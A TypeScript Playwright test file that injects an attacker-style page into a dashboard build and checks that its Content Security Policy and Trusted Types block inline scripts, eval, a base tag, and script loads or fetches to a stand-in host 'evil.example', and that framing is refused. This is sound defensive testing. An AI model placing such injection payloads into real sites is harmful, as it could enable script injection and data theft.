import { rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startChromium } from '../support/chromium.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import type { TempFolder } from '../support/temp-folder.ts';
import { watchPages } from '../support/watched-page.ts';
import { writeBuiltFolder } from './built-folder.ts';

let browser: Browser;
let folder: TempFolder;
let gateway: TestGateway;

/** A page that tries what an attacker would, and notes what it could do. */
const page = `<!doctype html><title>none</title>
<base href="https://evil.example/">
<script>document.title += ' inline'</script>
<body style="color: red" onload="document.title += ' handler'">
<style>body { color: red }</style>
<p>text</p>
<img src="https://evil.example/picture.png">
<script src="/ui/assets/attack.js"></script>`;

const attack = `
const attempt = (name, action) => {
  try { action(); document.title += ' ' + name; } catch {}
};
attempt('html', () => { document.querySelector('p').innerHTML = '<b>html</b>'; });
attempt('eval', () => eval('1'));
attempt('policy', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
attempt('script', () => { document.createElement('script').src = 'https://evil.example/x.js'; });
fetch('https://evil.example/').then(() => { document.title += ' fetch'; }, () => {});
document.title += ' ran';`;

beforeAll(async () => {
  folder = await writeBuiltFolder();
  await writeFile(path.join(folder.path, 'index.html'), page);
  for (const suffix of ['br', 'gz']) await rm(path.join(folder.path, `index.html.${suffix}`));
  await writeFile(path.join(folder.path, 'assets', 'attack.js'), attack);
  [browser, gateway] = await Promise.all([
    startChromium(),
    startTestGateway({ dashboardFolder: folder.path }),
  ]);
});
afterAll(async () => {
  await browser.close();
  await gateway.close();
  await folder.remove();
});

it('in Chromium, a page that is injected into can run nothing, and send nothing elsewhere', async () => {
  const context = await browser.newContext();
  const watch = await watchPages(context, gateway.url);
  const opened = await context.newPage();
  await opened.goto(`${gateway.url}/ui/`);
  await expect.poll(async () => await opened.title()).toBe('none ran');
  expect(await opened.evaluate(() => getComputedStyle(document.body).color)).toBe('rgb(0, 0, 0)');
  expect(await opened.evaluate(() => document.baseURI)).toBe(`${gateway.url}/ui/`);
  for (const directive of [
    'base-uri',
    'script-src-elem: inline',
    'script-src-attr: inline',
    'style-src-elem: inline',
    'style-src-attr: inline',
    'img-src: https://evil.example/picture.png',
    'connect-src: https://evil.example/',
    'require-trusted-types-for: trusted-types-sink',
    'trusted-types: trusted-types-policy',
  ]) {
    await expect.poll(() => watch.complaints.join('\n')).toContain(`violates ${directive}`);
  }
  await context.close();
});

it('no other page can hold it in a frame', async () => {
  const context = await browser.newContext();
  const opened = await context.newPage();
  await opened.goto(`${gateway.url}/healthz`);
  await opened.setContent(`<iframe src="${gateway.url}/ui/"></iframe>`);
  await expect.poll(() => opened.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  await context.close();
});
